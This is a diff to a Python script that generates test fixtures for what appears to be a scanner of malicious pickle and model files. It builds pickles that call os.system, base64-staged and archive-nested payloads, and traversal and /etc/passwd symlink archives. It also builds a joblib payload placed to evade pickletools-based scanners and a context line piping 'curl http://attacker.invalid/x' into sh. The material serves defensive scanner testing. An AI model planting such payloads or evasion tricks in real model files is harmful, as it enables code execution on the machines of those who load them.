@@ -8,6 +8,7 @@ Outputs are deterministic and committed; CI never runs this script.
 Malicious samples are assembled opcode by opcode (pk.py): no payload is ever
 defined as a Python object, imported or executed.
 """
+import base64
 import gzip
 import io
 import os
@@ -19,6 +20,7 @@ import zlib
 
 sys.path.insert(0, os.path.dirname(__file__))
 import pk  # noqa: E402
+import sevenz  # noqa: E402
 
 ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
 SAMPLES = os.path.join(ROOT, "testdata", "samples")
@@ -65,6 +67,10 @@ def tar_bytes(members):
 
 OS_SYSTEM_V0 = pk.glob("os", "system") + pk.put0(0) + pk.MARK + pk.u0("curl http://attacker.invalid/x | sh") + pk.TUPLE + pk.REDUCE + pk.STOP
 OS_SYSTEM_V2 = pk.pickle(pk.call("os", "system", pk.s("id > /tmp/pwned")))
+
+
+# A malicious pickle carried as base64 text (staging).
+STAGED = base64.b64encode(OS_SYSTEM_V2).decode()
 
 
 def pickles():
@@ -133,6 +139,9 @@ def pickles():
                 hidden + pk.STOP)
     write("pickle/frame_straddle.pkl", straddle)
     write("pickle/trailing_elf.pkl", pk.pickle(pk.EMPTY_LIST) + b"\x7fELF\x02\x01\x01" + b"\x00" * 57)
+    benign_inner = pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE, p=4)
+    write("pickle/nested_loads_benign.pkl", pk.pickle(pk.glob("pickle", "loads"), pk.bb(benign_inner), pk.TUPLE1, pk.REDUCE))
+    write("pickle/staged_base64.pkl", pk.pickle(pk.EMPTY_DICT, pk.s("note"), pk.s("weights v2"), pk.s("blob"), pk.s(STAGED), pk.SETITEM, pk.SETITEM))
     write("pickle/benign_list_v4.pkl", pk.pickle(pk.EMPTY_LIST, pk.MEMOIZE, pk.MARK, pk.s("a"), pk.s("b"), pk.i(3), pk.APPENDS, p=4))
     write("pickle/benign_ordereddict_v2.pkl", pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE,
                                                         pk.MARK, pk.s("lr"), b"G" + struct.pack(">d", 0.01), pk.SETITEMS))
@@ -160,6 +169,20 @@ def archives():
     # A bzip2 member that expands a thousandfold: a pickle skipping 80 MiB.
     big = pk.proto(4) + b"\x8e" + struct.pack("<Q", 80 << 20) + b"\x00" * (80 << 20) + pk.STOP
     write("archive/bomb.zip", zip_bytes([("data.pkl", big)], method=zipfile.ZIP_BZIP2))
+    write("archive/pickle.7z", sevenz.archive([("model/data.pkl", OS_SYSTEM_V2)]))
+    write("archive/encrypted.7z", sevenz.archive([("data.pkl", OS_SYSTEM_V2)], "-pinfected", "-mhe=on"))
+    # Names visible, data encrypted.
+    write("archive/encrypted_members.7z", sevenz.archive([("data.pkl", OS_SYSTEM_V2)], "-pinfected"))
+    # A solid folder through the BCJ filter and LZMA2 (as in picklescan's
+    # malicious1.7z): the payload follows a benign pickle in the same stream.
+    write("archive/solid_pickles.7z", sevenz.archive(
+        [("a/benign.pkl", benign), ("a/notes.txt", b"hello\n" * 100), ("a/data.pkl", OS_SYSTEM_V2)],
+        "-ms=on", "-m0=bcj", "-m1=lzma2"))
+    write("archive/traversal.7z", sevenz.archive([("../outside.txt", b"x\n"), ("ok.txt", b"y\n")], "-spf", cwd_name="in/sub"))
+    write("archive/symlink.7z", sevenz.archive([("link", "->/etc/passwd"), ("data.pkl", benign)], "-snl"))
+    # Nesting: a tar.gz holding a zip holding a malicious pickle.
+    inner = zip_bytes([("ckpt/data.pkl", OS_SYSTEM_V2)])
+    write("archive/nested.tar.gz", gzip.compress(tar_bytes([({"name": "release/model.zip"}, inner)]), mtime=0))
     bad = bytearray(zip_bytes([("archive/data.pkl", OS_SYSTEM_V2)]))
     crc_at = bad.find(b"PK\x03\x04") + 14
     bad[crc_at:crc_at + 4] = b"\xde\xad\xbe\xef"
@@ -207,7 +230,7 @@ def torch_samples():
     write("state_dict.pt", buf.getvalue(), base=EXAMPLES)
     buf = io.BytesIO()
     torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=False)
-    write("torch/legacy.pt", buf.getvalue())
+    write("torch/legacy.pt", stable_storage_keys(buf.getvalue()))
     script = torch.jit.script(model)
     buf = io.BytesIO()
     torch.jit.save(script, buf)
@@ -217,8 +240,40 @@ def torch_samples():
     rest = buf_legacy_tail()
     write("torch/magic_eval_legacy.pt", magic + rest)
     write("torch/legacy_tar.tar", legacy_tar())
+    # A module pickled with the plain pickle module: its tensors travel as
+    # torch.storage._load_from_bytes(b'<torch.save zip>') calls.
+    import pickle as std_pickle
+    layer = torch.nn.Linear(2, 2)
+    with torch.no_grad():
+        layer.weight.fill_(0.5)
+        layer.bias.fill_(0.25)
+    write("torch/plain_pickled_module.pkl", std_pickle.dumps(layer, protocol=2))
+    # _load_from_bytes of a torch zip whose data.pkl runs a command.
+    evil_zip = zip_bytes([("archive/data.pkl", OS_SYSTEM_V2), ("archive/version", b"3\n")])
+    write("torch/load_from_bytes_payload.pkl",
+          pk.pickle(pk.glob("torch.storage", "_load_from_bytes"), pk.bb(evil_zip), pk.TUPLE1, pk.REDUCE))
+    # Depth: base64 in a dict in a pickle in a torch zip in a tar.
+    deep_pickle = pk.pickle(pk.EMPTY_DICT, pk.s("meta"), pk.s(STAGED), pk.SETITEM)
+    deep_zip = zip_bytes([("archive/data.pkl", deep_pickle), ("archive/version", b"3\n")])
+    write("archive/deep_nested.tar", tar_bytes([({"name": "release/model.pt"}, deep_zip)]))
     # Examples: a checkpoint whose data.pkl was rewritten with a payload.
     write("backdoored_checkpoint.pt", inject_zip_payload(), base=EXAMPLES)
+
+
+def stable_storage_keys(data):
+    """Legacy torch.save names storages by memory address; rename them to
+    counters so the file is reproducible (no offsets refer to them)."""
+    import re
+    keys = []
+    for m in re.finditer(rb"X(....)(\d+)", data):
+        n = struct.unpack("<I", m.group(1))[0]
+        key = m.group(2)[:n]
+        if len(key) == n and key not in keys:
+            keys.append(key)
+    for i, key in enumerate(keys):
+        data = data.replace(b"X" + struct.pack("<I", len(key)) + key,
+                            b"X" + struct.pack("<I", len(str(i))) + str(i).encode())
+    return data
 
 
 def buf_legacy_tail():
@@ -279,6 +334,32 @@ def numpy_samples():
 
 
 def joblib_samples():
+    # joblib.dump writes each numpy array's raw bytes inline after its
+    # NumpyArrayWrapper record; pickletools-based scanners stop there. The
+    # payload is spliced in after the array bytes, where only a walker that
+    # skips arrays by their declared size reaches it.
+    import joblib
+    import numpy as np
+    import tempfile
+    arrays = {
+        "w": np.arange(12, dtype="<f8").reshape(3, 4), "i8": np.array([1, -2, 3], dtype="i1"),
+        "u": np.array(["ab", "cde"]), "rec": np.zeros(2, dtype=[("x", "<i4"), ("y", "<f2", (2,))]),
+        "obj": np.array([1, "two", None], dtype=object), "when": np.array(["2024-01-01"], dtype="M8[D]"),
+        "marker": "PAYLOAD_HERE",
+    }
+    with tempfile.TemporaryDirectory() as d:
+        path = os.path.join(d, "a.joblib")
+        joblib.dump(arrays, path, protocol=2)
+        with open(path, "rb") as f:
+            data = f.read()
+    write("joblib/arrays.joblib", data)
+    marker = b"X" + struct.pack("<I", 6) + b"marker"  # protocol 2 BINUNICODE
+    at = data.index(marker)
+    payload = pk.glob("os", "system") + pk.s("id") + pk.TUPLE1 + pk.REDUCE + pk.POP
+    evil = data[:at] + payload + data[at:]
+    write("joblib/payload_after_array.joblib", evil)
+    write("joblib/payload_after_array_xz.joblib", lzma_xz(evil))
+
     state = pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE,
                       pk.MARK, pk.s("n_estimators"), pk.i(10), pk.SETITEMS)
     write("joblib/estimator_zlib.joblib", zlib.compress(state, 3))
@@ -287,12 +368,35 @@ def joblib_samples():
     write("config.pkl.gz", gzip.compress(state, mtime=0), base=EXAMPLES)
 
 
+def lzma_xz(data):
+    import lzma
+    return lzma.compress(data, format=lzma.FORMAT_XZ, preset=3)
+
+
+def function_samples():
+    """Functions pickled as bytecode by cloudpickle and dill (defined here,
+    never called), and a hand-built FunctionType(marshal.loads(...))."""
+    import cloudpickle
+    import dill
+    import marshal
+    evil = lambda cmd: __import__("os").system(cmd)  # noqa: E731 (serialised, never called)
+    benign = lambda x: x * 2 + 1  # noqa: E731
+    write("pickle/cloudpickle_function_evil.pkl", cloudpickle.dumps(evil, protocol=4))
+    write("pickle/cloudpickle_function_benign.pkl", cloudpickle.dumps(benign, protocol=4))
+    write("pickle/dill_function_benign.pkl", dill.dumps(benign, protocol=4))
+    code = compile("lambda: __import__('os').system('id')", "<payload>", "eval").co_consts[0]
+    write("pickle/marshal_function.pkl", pk.pickle(
+        pk.glob("types", "FunctionType"), pk.glob("marshal", "loads"), pk.bb(marshal.dumps(code)), pk.TUPLE1, pk.REDUCE,
+        pk.EMPTY_DICT, pk.TUPLE2, pk.REDUCE))
+
+
 def main():
     pickles()
     archives()
     torch_samples()
     numpy_samples()
     joblib_samples()
+    function_samples()
     write("misc/png_named.pt", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17)
     write("os_system.pkl", OS_SYSTEM_V0, base=EXAMPLES)
 
